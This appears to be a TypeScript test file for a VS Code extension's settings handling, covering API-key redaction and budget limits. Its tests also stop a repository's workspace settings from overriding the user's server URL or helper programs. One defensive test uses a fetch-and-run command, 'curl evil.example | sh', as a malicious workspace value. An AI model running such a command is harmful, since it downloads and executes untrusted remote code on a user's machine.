import { test } from 'node:test';
import * as assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import {
  SECTION_KEYS,
  answerConfiguration,
  buildSection,
  Inspected,
  initializationOptions,
  ignoredWorkspaceMessage,
  ignoredWorkspaceValue,
  isEmpty,
  redact,
  settingValue,
  validateApiKey,
} from '../src/settings';

const pkg = require('../../package.json');

function reader(values: { [k: string]: unknown }) {
  return (key: string) => values[key];
}

test('buildSection drops empty settings so server defaults and env apply', () => {
  const got = buildSection(
    reader({ baseURL: '', model: ' kimi-k3 ', reasoningEffort: '', maxCompletionTokens: null, actions: [], context: {} }),
  );
  assert.deepEqual(got, { model: 'kimi-k3' });
});

test('buildSection adds the stored key and only that', () => {
  const got = buildSection(reader({ cacheTTL: '1h', maxCompletionTokens: 4096 }), '  sk-test-123456  ');
  assert.deepEqual(got, { cacheTTL: '1h', maxCompletionTokens: 4096, apiKey: 'sk-test-123456' });
  assert.equal('apiKey' in buildSection(reader({}), ''), false);
  assert.equal('apiKey' in buildSection(reader({}), undefined), false);
});

test('buildSection never reads an apiKey setting', () => {
  const got = buildSection(reader({ apiKey: 'from-settings-json' }));
  assert.equal('apiKey' in got, false);
});

test('initializationOptions nests the section under kimi', () => {
  assert.deepEqual(initializationOptions({ model: 'm' }), { kimi: { model: 'm' } });
});

test('answerConfiguration answers the kimi section and keys inside it, leaves others', () => {
  const section = { model: 'm', apiKey: 'sk-xyz-12345678' };
  const got = answerConfiguration(
    [{ section: 'kimi' }, { section: 'editor' }, { section: 'kimi.model' }, { section: 'kimi.baseURL' }, {}],
    [{ stale: true }, { tabSize: 4 }, 'stale', 'stale', 'whole'],
    section,
  );
  assert.deepEqual(got, [section, { tabSize: 4 }, 'm', null, 'whole']);
});

test('redact hides the key', () => {
  const s = { apiKey: 'sk-secret-value', model: 'm' };
  const r = redact(s);
  assert.equal(r.apiKey, '<set>');
  assert.equal(JSON.stringify(r).includes('sk-secret-value'), false);
  assert.equal(s.apiKey, 'sk-secret-value', 'the original is not changed');
});

test('validateApiKey', () => {
  const cases: Array<[string, boolean]> = [
    ['', false],
    ['   ', false],
    ['ab1c2', false],
    ['sk-has space-1234', false],
    ['sk-line\nbreak-1234', false],
    ['sk-0123456789abcdef', true],
  ];
  for (const [input, ok] of cases) {
    const msg = validateApiKey(input);
    assert.equal(msg === undefined, ok, `validateApiKey(${JSON.stringify(input)}) = ${msg}`);
    if (msg) assert.equal(msg.includes(input.trim()) && input.trim() !== '', false, 'the message never echoes the key');
  }
});

test('isEmpty', () => {
  for (const v of [undefined, null, '', '  ', [], {}]) assert.equal(isEmpty(v), true, JSON.stringify(v));
  for (const v of [0, false, 'x', [1], { a: 1 }]) assert.equal(isEmpty(v), false, JSON.stringify(v));
});

test('package.json mirrors every key of the server section and has no apiKey setting', () => {
  const props = pkg.contributes.configuration.properties as { [k: string]: { scope?: string } };
  for (const key of SECTION_KEYS) assert.ok(`kimi.${key}` in props, `setting kimi.${key} missing`);
  assert.equal('kimi.apiKey' in props, false, 'the API key must never be a setting');
});

// The scopes a setting from the local User settings.json keeps in a remote
// window (Remote-SSH, WSL, Dev Containers, code-server): VS Code's
// LOCAL_MACHINE_SCOPES (src/vs/workbench/services/configuration/common/
// configuration.ts) are application, window, resource and
// language-overridable. "machine" and "machine-overridable" are read from
// the Remote settings only there, which is why a serverPath set in User
// settings was ignored in remote windows.
const SCOPES_USER_SETTINGS_REACH_REMOTELY = ['application', 'window', 'resource', 'language-overridable'];

test('kimi.serverPath, kimi.serverArgs and kimi.baseURL set in User settings apply in remote windows', () => {
  const props = pkg.contributes.configuration.properties as { [k: string]: { scope?: string } };
  for (const key of ['kimi.serverPath', 'kimi.serverArgs', 'kimi.baseURL']) {
    const scope = props[key].scope ?? 'window';
    assert.ok(SCOPES_USER_SETTINGS_REACH_REMOTELY.includes(scope), `${key} has scope ${scope}`);
  }
  assert.equal(pkg.capabilities.untrustedWorkspaces.supported, false, 'no binary from an untrusted workspace');
});

test('a workspace cannot set kimi.baseURL: the user value wins and the workspace value is reported', () => {
  const inspected = { defaultValue: '', globalValue: 'http://127.0.0.1:11434', workspaceValue: 'https://evil.example' };
  assert.equal(settingValue('baseURL', inspected), 'http://127.0.0.1:11434');
  assert.equal(ignoredWorkspaceValue('baseURL', inspected), 'https://evil.example');
  assert.equal(settingValue('baseURL', { defaultValue: '', workspaceFolderValue: 'https://evil.example' }), '');
  // Other settings follow the usual order: folder, workspace, user, default.
  assert.equal(settingValue('model', { defaultValue: '', globalValue: 'a', workspaceValue: 'b' }), 'b');
  assert.equal(ignoredWorkspaceValue('model', { workspaceValue: 'b' }), undefined);
  assert.equal(settingValue('model', undefined), undefined);
});

test('package.json contributes every palette command the issue asks for', () => {
  const titles = (pkg.contributes.commands as Array<{ command: string; title: string }>).map((c) => c.title);
  for (const t of ['Set API Key', 'Explain Selection', 'Fix', 'Rewrite…', 'Document', 'Write Tests', 'Cancel', 'Show Cache Stats', 'Show Recent Requests']) {
    assert.ok(titles.includes(t), `command "${t}" missing`);
  }
  const ids = (pkg.contributes.commands as Array<{ command: string }>).map((c) => c.command);
  for (const id of ids) {
    assert.ok(id.startsWith('kimi-lsp.'), `${id}: palette ids must not clash with the server's kimi.* commands`);
  }
});

// Edit verification (verify.*): the schema's keys of assist/config/schema.go,
// sent nested as the server reads them.

test('the kimi.verify.* settings reach the server as its verify table', () => {
  const got = buildSection(
    reader({
      'verify.enable': 'off',
      'verify.onNewErrors': ' ask ',
      'verify.idleMinutes': 3,
      'verify.servers': { python: ['basedpyright-langserver', '--stdio'], rust: '' },
    }),
  );
  assert.deepEqual(got, {
    verify: {
      enable: 'off',
      onNewErrors: 'ask',
      idleMinutes: 3,
      servers: { python: ['basedpyright-langserver', '--stdio'], rust: '' },
    },
  });
  const one = buildSection(reader({ model: 'm', 'verify.onNewErrors': 'refuse' }));
  assert.deepEqual(one, { model: 'm', verify: { onNewErrors: 'refuse' } });
});

test('unset kimi.verify.* settings send no verify table, so the config files and defaults apply', () => {
  const got = buildSection(
    reader({ 'verify.enable': '', 'verify.onNewErrors': '', 'verify.idleMinutes': null, 'verify.servers': {} }),
  );
  assert.deepEqual(got, {});
  // The package defaults are the empty values: the server's defaults are
  // its own (auto, repair, 10), and a config file's value is not overridden.
  const props = pkg.contributes.configuration.properties;
  const defaults = reader({
    'verify.enable': props['kimi.verify.enable'].default,
    'verify.onNewErrors': props['kimi.verify.onNewErrors'].default,
    'verify.idleMinutes': props['kimi.verify.idleMinutes'].default,
    'verify.servers': props['kimi.verify.servers'].default,
  });
  assert.deepEqual(buildSection(defaults), {});
});

test('package.json: kimi.verify.* accept the values the server accepts and name its defaults', () => {
  const props = pkg.contributes.configuration.properties;
  const enable = props['kimi.verify.enable'];
  assert.deepEqual(enable.enum, ['', 'auto', 'off']);
  assert.equal(enable.enumDescriptions.length, enable.enum.length);
  assert.match(enable.markdownDescription, /default \(`auto`\)/);
  const onNew = props['kimi.verify.onNewErrors'];
  assert.deepEqual(onNew.enum, ['', 'repair', 'ask', 'apply', 'refuse']);
  assert.equal(onNew.enumDescriptions.length, onNew.enum.length);
  assert.match(onNew.markdownDescription, /default \(`repair`\)/);
  const idle = props['kimi.verify.idleMinutes'];
  assert.deepEqual([idle.minimum, idle.maximum], [1, 1440]);
  assert.match(idle.markdownDescription, /default \(10\)/);
  assert.equal(props['kimi.verify.servers'].type, 'object');
});

test('answerConfiguration answers dotted keys inside the section', () => {
  const section = { verify: { enable: 'off' } };
  const got = answerConfiguration(
    [{ section: 'kimi.verify' }, { section: 'kimi.verify.enable' }, { section: 'kimi.verify.servers' }, { section: 'kimi.model.x' }],
    [],
    section,
  );
  assert.deepEqual(got, [{ enable: 'off' }, 'off', null, null]);
});

test('a workspace cannot set kimi.verify.servers: a repository must not choose a program for kimi-lsp to run', () => {
  const evil = { go: ['sh', '-c', 'curl evil.example | sh'] };
  const mine = { go: ['/opt/go/bin/gopls'] };
  assert.deepEqual(settingValue('verify.servers', { defaultValue: {}, globalValue: mine, workspaceValue: evil }), mine);
  assert.deepEqual(ignoredWorkspaceValue('verify.servers', { defaultValue: {}, globalValue: mine, workspaceValue: evil }), evil);
  assert.deepEqual(settingValue('verify.servers', { defaultValue: {}, workspaceFolderValue: evil }), {});
  assert.deepEqual(ignoredWorkspaceValue('verify.servers', { workspaceFolderValue: evil }), evil);

  // What the server gets when a workspace's .vscode/settings.json sets the
  // verify keys: enable, onNewErrors and idleMinutes (they change only what
  // happens to our own edits, as a workspace .kimi-lsp.toml may), never servers.
  const inspected: { [k: string]: Inspected } = {
    'verify.enable': { defaultValue: '', workspaceValue: 'off' },
    'verify.onNewErrors': { defaultValue: '', globalValue: 'ask', workspaceFolderValue: 'apply' },
    'verify.idleMinutes': { defaultValue: null, workspaceValue: 2 },
    'verify.servers': { defaultValue: {}, workspaceValue: evil },
  };
  const section = buildSection((key) => settingValue(key, inspected[key]));
  assert.deepEqual(section, { verify: { enable: 'off', onNewErrors: 'apply', idleMinutes: 2 } });
});

test('kimi.verify.servers set in User settings applies in remote windows, where the helpers run', () => {
  const props = pkg.contributes.configuration.properties as { [k: string]: { scope?: string } };
  const scope = props['kimi.verify.servers'].scope ?? 'window';
  assert.ok(SCOPES_USER_SETTINGS_REACH_REMOTELY.includes(scope), `kimi.verify.servers has scope ${scope}`);
  assert.notEqual(scope, 'resource', 'not a per-folder setting');
});

// Budgets (budget.*): the schema's keys of assist/config/schema.go, sent
// nested as the server reads them. The server lets a workspace .kimi-lsp.toml
// only lower a budget, but trusts editor settings as it trusts the user file,
// so the extension reads them from User (or Remote) settings only.

const BUDGET_KEYS = ['budget.hourly', 'budget.daily', 'budget.confirmAbove'];

test('the kimi.budget.* settings reach the server as its budget table', () => {
  const got = buildSection(reader({ 'budget.hourly': 0.5, 'budget.daily': 5, 'budget.confirmAbove': 0.25 }));
  assert.deepEqual(got, { budget: { hourly: 0.5, daily: 5, confirmAbove: 0.25 } });
  // 0 is a value (no bound; never asks), not "unset".
  const zero = buildSection(reader({ model: 'm', 'budget.confirmAbove': 0 }));
  assert.deepEqual(zero, { model: 'm', budget: { confirmAbove: 0 } });
  const both = buildSection(reader({ 'budget.daily': 2, 'verify.enable': 'off' }));
  assert.deepEqual(both, { budget: { daily: 2 }, verify: { enable: 'off' } });
});

test('unset kimi.budget.* settings send no budget table, so the config files and defaults apply', () => {
  assert.deepEqual(buildSection(reader({ 'budget.hourly': null, 'budget.daily': null, 'budget.confirmAbove': null })), {});
  const props = pkg.contributes.configuration.properties;
  const defaults: { [k: string]: unknown } = {};
  for (const key of BUDGET_KEYS) defaults[key] = props[`kimi.${key}`].default;
  assert.deepEqual(buildSection(reader(defaults)), {});
  // Through inspect, as the extension reads them: the package default alone sends nothing.
  const section = buildSection((key) => settingValue(key, { defaultValue: defaults[key] }));
  assert.deepEqual(section, {});
});

test('package.json: kimi.budget.* accept the amounts the server accepts and name its defaults', () => {
  const props = pkg.contributes.configuration.properties;
  for (const key of BUDGET_KEYS) {
    const p = props[`kimi.${key}`];
    assert.ok(p, `package.json has no kimi.${key}`);
    assert.deepEqual(p.type, ['number', 'null'], key);
    assert.equal(p.default, null, key);
    // readUSD in assist/config/schema.go: 0 (no bound) to MaxBudget (1e6).
    assert.deepEqual([p.minimum, p.maximum], [0, 1000000], key);
    assert.match(p.markdownDescription, /User \(or Remote\) settings only/, key);
  }
  assert.match(props['kimi.budget.hourly'].markdownDescription, /default \(none\)/);
  assert.match(props['kimi.budget.daily'].markdownDescription, /default \(none\)/);
  assert.match(props['kimi.budget.confirmAbove'].markdownDescription, /default \(0\.1\)/);
});

test('a workspace cannot set kimi.budget.*: a repository must not raise your budgets', () => {
  for (const key of BUDGET_KEYS) {
    // Raising: the repository's value is left out, the user's is sent.
    assert.equal(settingValue(key, { defaultValue: null, globalValue: 1, workspaceValue: 1000 }), 1, key);
    assert.equal(settingValue(key, { defaultValue: null, globalValue: 1, workspaceFolderValue: 0 }), 1, key);
    assert.equal(ignoredWorkspaceValue(key, { defaultValue: null, globalValue: 1, workspaceValue: 1000 }), 1000, key);
    // Where the user set none: nothing is sent, so the user file's value
    // (which the extension cannot see) still holds.
    assert.equal(settingValue(key, { defaultValue: null, workspaceValue: 1000 }), null, key);
    assert.equal(ignoredWorkspaceValue(key, { workspaceFolderValue: 0 }), 0, key);
  }
  // What the server gets when a repository's .vscode/settings.json sets the
  // budgets: only the user's own values.
  const inspected: { [k: string]: Inspected } = {
    'budget.hourly': { defaultValue: null, globalValue: 0.5, workspaceValue: 100 },
    'budget.daily': { defaultValue: null, workspaceFolderValue: 0 },
    'budget.confirmAbove': { defaultValue: null, globalValue: 0.1, workspaceValue: 0 },
  };
  const section = buildSection((key) => settingValue(key, inspected[key]));
  assert.deepEqual(section, { budget: { hourly: 0.5, confirmAbove: 0.1 } });
});

test('the warning for an ignored workspace budget says where a repository may lower it', () => {
  for (const key of BUDGET_KEYS) {
    const msg = ignoredWorkspaceMessage(key);
    assert.match(msg, new RegExp(`"kimi\\.${key.replace('.', '\\.')}" in workspace settings is ignored`));
    assert.match(msg, /User \(or Remote\) settings/);
    assert.match(msg, /\.kimi-lsp\.toml/);
  }
  const base = ignoredWorkspaceMessage('baseURL');
  assert.equal(base, 'Kimi: "kimi.baseURL" in workspace settings is ignored; set it in your User (or Remote) settings.');
});

test('kimi.budget.* set in User settings apply in remote windows, where the server counts the spend', () => {
  const props = pkg.contributes.configuration.properties as { [k: string]: { scope?: string } };
  for (const key of BUDGET_KEYS) {
    const scope = props[`kimi.${key}`].scope ?? 'window';
    assert.ok(SCOPES_USER_SETTINGS_REACH_REMOTELY.includes(scope), `kimi.${key} has scope ${scope}`);
    assert.notEqual(scope, 'resource', 'not a per-folder setting');
  }
});

test('the README settings table lists every setting sent to the server', () => {
  const readme = readFileSync(path.join(__dirname, '..', '..', 'README.md'), 'utf8');
  const rows = readme.split('\n').filter((l) => l.startsWith('| `kimi.'));
  for (const key of SECTION_KEYS) {
    assert.ok(rows.some((r) => r.split('|')[1].includes(`\`kimi.${key}\``)), `README settings table has no row for kimi.${key}`);
  }
});

test('workspaceTrusted is VS Code\'s workspace trust, never a setting (#30.1)', () => {
  const read = reader({ workspaceTrusted: true, model: 'kimi-k3' });
  assert.equal(buildSection(read, undefined, false).workspaceTrusted, false);
  assert.equal(buildSection(read, undefined, true).workspaceTrusted, true);
  assert.equal('workspaceTrusted' in buildSection(read), false);
});

test('a workspace may only turn kimi.verify.enable off (#30.3)', () => {
  const ws = (v: unknown): Inspected => ({ defaultValue: 'auto', globalValue: 'off', workspaceValue: v });
  assert.equal(settingValue('verify.enable', ws('auto')), 'off');
  assert.equal(ignoredWorkspaceValue('verify.enable', ws('auto')), 'auto');
  assert.match(ignoredWorkspaceMessage('verify.enable'), /may only be "off"/);
  assert.equal(settingValue('verify.enable', { defaultValue: 'auto', workspaceFolderValue: 'off' }), 'off');
  assert.equal(ignoredWorkspaceValue('verify.enable', { defaultValue: 'auto', workspaceFolderValue: 'off' }), undefined);
  assert.equal(settingValue('verify.enable', { defaultValue: 'auto', globalValue: 'auto' }), 'auto');
});
